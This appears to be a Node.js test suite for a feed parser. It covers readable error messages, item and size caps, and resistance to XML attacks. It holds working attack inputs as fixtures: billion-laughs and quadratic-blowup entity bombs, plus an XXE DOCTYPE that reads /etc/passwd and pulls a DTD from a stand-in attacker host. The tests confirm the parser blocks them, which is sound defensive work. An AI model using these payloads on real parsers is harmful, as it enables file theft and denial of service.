// Feed parsing under attack: understandable parse errors, billion laughs, quadratic blowup and XXE inert,
// and the item count and size caps.
import assert from "node:assert/strict";

import { MAX_FEED_ITEMS, MAX_ITEM_TEXT_BYTES } from "../../../src/core/ingest/feed/types.js";
import { parseFeed } from "../../../src/core/ingest/feed/parse.js";
import { test } from "node:test";
import { HTML_PAGE, RSS, cpuTimed, feedError, rssOf } from "./feedFixtures.js";

test("parse errors are FeedErrors a person can understand", () => {
  assert.equal(
    feedError(() => parseFeed(HTML_PAGE, "https://x.example/")).userMessage,
    "That address returned a web page, not a feed",
  );
  assert.equal(
    feedError(() =>
      parseFeed('<meta charset="utf-8"><title>Home</title><body><p>Hi<br></body>', "https://x.example/"),
    ).userMessage,
    "That address returned a web page, not a feed",
  );
  const broken = feedError(() => parseFeed("<rss><channel><title>x</channel></rss>", "https://x.example/"));
  assert.match(broken.userMessage, /^The feed is not valid XML: .*closing tag.*\(line 1, column \d+\)$/);
  assert.equal(broken.message, broken.userMessage);
  assert.match(
    feedError(() => parseFeed(rssOf("<item><title>Tom & Jerry</title></item>"), "https://x.example/"))
      .userMessage,
    /^The feed is not valid XML: char '&' is not expected/,
  );
  assert.match(
    feedError(() => parseFeed('<?xml version="1.0"?><note/>', "https://x.example/")).userMessage,
    /not an RSS, Atom or RDF feed \(its root element is <note>\)/,
  );
  assert.match(feedError(() => parseFeed('{"items": [', "https://x.example/")).userMessage, /not valid JSON/);
  assert.match(
    feedError(() => parseFeed('{"items": []}', "https://x.example/")).userMessage,
    /not a JSON Feed/,
  );
  assert.match(feedError(() => parseFeed("  ", "https://x.example/")).userMessage, /empty response/);
  assert.match(feedError(() => parseFeed("hello", "https://x.example/")).userMessage, /neither XML nor JSON/);
  assert.match(feedError(() => parseFeed(RSS, "not a url")).userMessage, /not a valid URL/);
  const deep = rssOf(
    `<item><title>x</title><description>${"<x>".repeat(2000)}${"</x>".repeat(2000)}</description></item>`,
  );
  assert.match(feedError(() => parseFeed(deep, "https://x.example/")).userMessage, /nested too deeply/);
});

test("billion laughs: entities stay unexpanded and parsing is fast", () => {
  let dtd = '<!ENTITY lol "lol">';
  for (let i = 1; i <= 9; i++) dtd += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
  const body = rssOf(
    "<item><title>&lol9;</title><guid>1</guid><description>&lol9; &lol5;</description></item>",
    `<!DOCTYPE lolz [${dtd}]>`,
  );
  const { value: feed, cpuMs } = cpuTimed(() => parseFeed(body, "https://x.example/"));
  assert.ok(cpuMs < 1000, `used ${cpuMs} ms of CPU`);
  assert.equal(feed.items[0]?.title, "&lol9;");
  assert.equal(feed.items[0]?.text, "&lol9; &lol5;");
  assert.ok(JSON.stringify(feed).length < 2000);
});

test("quadratic blowup (100 KB): one big entity referenced thousands of times is never expanded", () => {
  const big = "a".repeat(50_000);
  const refs = "&a;".repeat(17_000);
  const body = rssOf(
    `<item><title>Q</title><guid>q</guid><description>${refs}</description></item>`,
    `<!DOCTYPE rss [<!ENTITY a "${big}">]>`,
  );
  assert.ok(body.length >= 100_000);
  const { value: feed, cpuMs } = cpuTimed(() => parseFeed(body, "https://x.example/"));
  assert.ok(cpuMs < 1000, `used ${cpuMs} ms of CPU`);
  const text = feed.items[0]?.text ?? "";
  assert.ok(text.startsWith("&a;&a;"));
  assert.doesNotMatch(text, /aaaa/);
  assert.ok(text.length <= refs.length);
});

test("XXE: a SYSTEM entity pointing at a local file is neither read nor expanded", () => {
  const body = rssOf(
    "<item><title>&xxe;</title><guid>x</guid><description>Leak: &xxe; &remote;</description></item>",
    `<!DOCTYPE rss [
      <!ENTITY xxe SYSTEM "file:///etc/passwd">
      <!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;
      <!ENTITY remote SYSTEM "http://attacker.example/secret">
    ]>`,
  );
  const feed = parseFeed(body, "https://x.example/");
  const [only] = feed.items;
  assert.equal(only?.title, "&xxe;");
  assert.equal(only?.text, "Leak: &xxe; &remote;");
  assert.doesNotMatch(JSON.stringify(feed), /root:|\/bin\/(ba)?sh/);
  // A DOCTYPE-declared entity never shadows a standard one either.
  const shadow = parseFeed(
    rssOf(
      "<item><title>&lt;b&gt; &amp; &#65;</title><guid>s</guid></item>",
      '<!DOCTYPE rss [<!ENTITY lt "EVIL">]>',
    ),
    "https://x.example/",
  );
  assert.equal(shadow.items[0]?.title, "<b> & A");
});

test("a 1000-item feed keeps the newest 500; each item's text is capped at 100 KB", () => {
  let items = "";
  for (let i = 0; i < 1000; i++) {
    const day = new Date(Date.UTC(2020, 0, 1) + i * 86_400_000).toUTCString();
    items += `<item><title>Item ${i}</title><guid>g${i}</guid><pubDate>${day}</pubDate><description>Body ${i}</description></item>`;
  }
  const feed = parseFeed(rssOf(items), "https://x.example/");
  assert.equal(feed.items.length, MAX_FEED_ITEMS);
  assert.equal(feed.items[0]?.title, "Item 999");
  assert.equal(feed.items.at(-1)?.title, "Item 500");

  const words = "Policy words repeat here. ".repeat(12_000);
  const long = parseFeed(
    rssOf(`<item><title>Long</title><guid>l</guid><description>${words}</description></item>`),
    "https://x.example/",
  );
  const text = long.items[0]?.text ?? "";
  assert.ok(Buffer.byteLength(text) <= MAX_ITEM_TEXT_BYTES, `${Buffer.byteLength(text)} bytes`);
  assert.ok(Buffer.byteLength(text) > MAX_ITEM_TEXT_BYTES * 0.8);
  assert.ok(text.endsWith("."));
});
